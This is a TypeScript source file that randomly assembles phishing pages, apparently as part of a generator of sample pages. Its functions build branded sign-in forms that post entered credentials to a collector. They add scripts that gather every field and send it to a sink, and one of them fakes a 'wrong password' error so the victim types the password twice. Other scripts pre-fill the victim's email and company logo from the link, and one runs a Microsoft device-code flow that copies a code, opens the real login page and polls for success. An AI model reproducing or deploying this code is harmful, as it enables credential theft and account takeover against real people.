import type { Chance } from '../make/chance.ts'
import { escaped } from '../make/pages/layout.ts'
import { asAddress, drawnPaper, markOf } from './bulk.ts'
import { lookOf, type Secrecy } from './fields.ts'
import { sinkOf, takerOf } from './sinks.ts'
import type { Story } from './story.ts'
import { wordOf } from './tongues.ts'

export const brandOf = ({ org }: Story, chance: Chance): string => {
  const name = escaped(org.name)
  return chance.of([
    `${markOf(org.colour, chance)} <b>${name}</b>`,
    `<img id="logo" src="${chance.of([`${org.home}favicon.ico`, 'images/logo.png', 'img/brand.svg', `https://logo.clearbit.com/${new URL(org.home).hostname}`])}" alt="${name}" height="${24 + chance.below(24)}">`,
    `<span class="brand" style="color:${org.colour}">${name}</span>`,
    `<img src="${asAddress(markOf(org.colour, chance))}" alt=""> ${name}`,
  ])
}

export const introOf = (story: Story, chance: Chance): string => {
  const level = chance.of(['h1', 'h2', 'h3'])
  const code =
    story.code === ''
      ? ''
      : `<p class="code" id="dc" style="font:700 28px monospace">${escaped(story.code)}</p>`
  return `<${level}>${escaped(story.heading)}</${level}><p class="lead">${escaped(story.text)}</p>${code}`
}

export const titleOf = (story: Story, chance: Chance): string =>
  chance.of([
    `${story.heading} - ${story.org.name}`,
    story.org.name,
    wordOf(story.tongue, 'signIn'),
    story.heading,
    `${story.org.name} | ${wordOf(story.tongue, 'signIn')}`,
  ])

export const buttonOf = (text: string, chance: Chance): string =>
  chance.of([
    `<button type="submit">${escaped(text)}</button>`,
    `<input type="submit" value="${escaped(text)}">`,
    `<button class="btn btn-primary btn-block">${escaped(text)}</button>`,
  ])

const besides = ({ tongue, kind }: Story, chance: Chance): string => {
  if (kind === 'date' || kind === 'job' || chance.maybe(0.4)) return ''
  return chance.of([
    `<p><a href="#">${escaped(wordOf(tongue, 'forgot'))}</a></p>`,
    `<label><input type="checkbox" checked> ${escaped(wordOf(tongue, 'remember'))}</label>`,
  ])
}

/** A form that goes to a file of the kit without any script; all that is asked stands in it. */
export function postedForm(story: Story, chance: Chance): string {
  const look = lookOf(chance.maybe(0.3) ? 'masked' : 'password', chance)
  const isMail = story.steps[0]?.some(({ key }) => key === 'email')
  const known = isMail && chance.maybe(0.5)
  const fields = story.steps
    .flat()
    .map((field) => (known && field.key === 'email' ? { ...field, value: story.victim } : field))
  const hidden = chance.maybe(0.4)
    ? `<input type="hidden" name="${chance.of(['t', 'token', 'sid', 'step'])}" value="${chance.hex(24)}">`
    : ''
  const wrong = chance.maybe(0.3) ? `<p class="err">${escaped(wordOf(story.tongue, 'wrong'))}</p>` : ''
  const files = fields.some(({ type }) => type === 'file') ? ' enctype="multipart/form-data"' : ''
  return `<form action="${takerOf(chance)}" method="${chance.of(['post', 'POST'])}"${files}>${hidden}${wrong}${look(fields)}${besides(story, chance)}${buttonOf(story.button, chance)}</form>`
}

const TAKES = [
  'var d={};f.querySelectorAll("input,textarea,[contenteditable]").forEach(function(i){if(i.type!=="checkbox"&&i.type!=="submit")d[i.name||i.dataset.n||i.id]=i.isContentEditable?i.textContent:i.type==="file"?(i.files[0]||{}).name:i.value});',
  'const d={};for(const i of f.querySelectorAll("input,textarea,div[contenteditable]")){if(i.type=="submit")continue;d[i.getAttribute("name")||i.getAttribute("data-n")]=i.value===undefined?i.innerText:i.value}',
] as const

const endOf = (story: Story, chance: Chance): string => {
  const { home } = story.org
  const wait = JSON.stringify(wordOf(story.tongue, chance.of(['wait', 'sent'])))
  return chance.of([
    `location.href="${home}"`,
    `say(${wait});setTimeout(function(){location.replace("${home}")},${1500 + chance.below(30) * 100})`,
    `say(${wait})`,
    `say(${wait});setTimeout(function(){location="https://www.google.com/search?q="+encodeURIComponent(document.title)},2500)`,
  ])
}

export interface Scripted {
  readonly html: string
  readonly code: string
}

/** The steps of a story as forms of which one is seen, and the code that leads from one to the next. */
export function steppedForms(story: Story, chance: Chance): Scripted {
  const secrecy: Secrecy = chance.of(['password', 'password', 'masked', 'editable'])
  const look = lookOf(secrecy, chance)
  const kind = chance.of(['stp', 'frm', 'form-step', 'panel', chance.letters(5)])
  const says = chance.of(['msg', 'err', 'note', chance.letters(4)])
  const { tongue, steps } = story
  const html = steps
    .map(
      (fields, at) =>
        `<form class="${kind}" id="${kind}${at}"${at === 0 ? '' : ' hidden'} autocomplete="off" novalidate>${fields.some(({ key }) => key === 'code') ? `<p>${escaped(wordOf(tongue, 'codeText'))}</p>` : ''}${look(fields)}${at === 0 ? besides(story, chance) : ''}${buttonOf(at === 0 ? story.button : wordOf(tongue, 'next'), chance)}</form>`,
    )
    .join('\n')
  const twice = chance.maybe(0.45)
    ? `if(i===0&&tries++<1){say(${JSON.stringify(wordOf(tongue, 'wrong'))});f.reset();return}`
    : ''
  const code = `(function(){var all={},tries=0,F=[].slice.call(document.querySelectorAll("form.${kind}")),say=function(t){document.getElementById("${says}").textContent=t};
F.forEach(function(f,i){f.addEventListener("submit",function(e){e.preventDefault();${chance.of(TAKES)}Object.assign(all,d);
${sinkOf(chance.of(['d', 'all']), chance)}.catch(function(){});${twice}
if(F[i+1]){f.hidden=true;F[i+1].hidden=false;say("");return}
${endOf(story, chance)}})})})();`
  return { html: `${html}<p id="${says}" class="err" role="status"></p>`, code }
}

/** Code that puts the visitor's address from the page's own address into the form, and his company's logo. */
export function prefillCode(chance: Chance): string {
  const read = chance.of([
    'var q=new URLSearchParams(location.search);var v=decodeURIComponent(location.hash.slice(1))||q.get("e")||q.get("email")||"";',
    'let v=location.hash.replace("#","");if(!v){const m=/[?&](?:e|email|u)=([^&]+)/.exec(location.search);v=m?decodeURIComponent(m[1]):""}',
  ])
  const logo = chance.of([
    '"https://logo.clearbit.com/"+h',
    '"https://www.google.com/s2/favicons?sz=64&domain="+h',
    '"https://icons.duckduckgo.com/ip3/"+h+".ico"',
    '"https://"+h+"/favicon.ico"',
  ])
  const behind = chance.maybe(0.3)
    ? 'var w=document.querySelector(".veil");if(w)w.style.backgroundImage="url(https://image.thum.io/get/https://"+h+")";'
    : ''
  return `(function(){${read}if(v&&v.indexOf("@")<0){try{v=atob(v)}catch(e){}}if(v.indexOf("@")<1)return;var h=v.split("@")[1];
var i=document.querySelector("input[type=email],input[data-m]");if(i){i.value=v;${chance.of(['i.readOnly=true;', ''])}}
var l=document.getElementById("logo");if(l){var p=new Image;p.onload=function(){l.src=p.src};p.src=${logo}}${behind}
${chance.maybe(0.5) ? 'document.title=h+" - "+document.title' : ''}})();`
}

/** A device's code with the button that copies it and opens the real page where it is asked. */
export function copyStep(story: Story, chance: Chance): Scripted {
  const at = chance.of([
    'https://microsoft.com/devicelogin',
    'https://login.microsoftonline.com/common/oauth2/deviceauth',
    'https://www.microsoft.com/link',
  ])
  const poll = chance.of([
    `setInterval(function(){fetch("/api/status?c=${story.code}").then(function(r){return r.json()}).then(function(j){if(j.ok)location.href=j.next}).catch(function(){})},4000);`,
    `try{new WebSocket("wss://"+location.host+"/poll/${chance.hex(10)}").onmessage=function(m){location.href=JSON.parse(m.data).u}}catch(e){}`,
    '',
  ])
  return {
    html: `<button type="button" id="cp" class="btn">${escaped(story.button)}</button><div class="steps">${chance.maybe(0.5) ? drawnPaper(story.org.colour, chance) : ''}</div>`,
    code: `document.getElementById("cp").addEventListener("click",function(){var t=document.getElementById("dc").textContent;if(navigator.clipboard)navigator.clipboard.writeText(t);window.open("${at}","_blank","width=520,height=640");this.textContent="✓ "+t});${poll}`,
  }
}

/** The middle of a page whose own script takes what is entered. */
export const scriptedForms = (story: Story, chance: Chance): Scripted =>
  story.code !== '' && story.steps.length === 0 ? copyStep(story, chance) : steppedForms(story, chance)
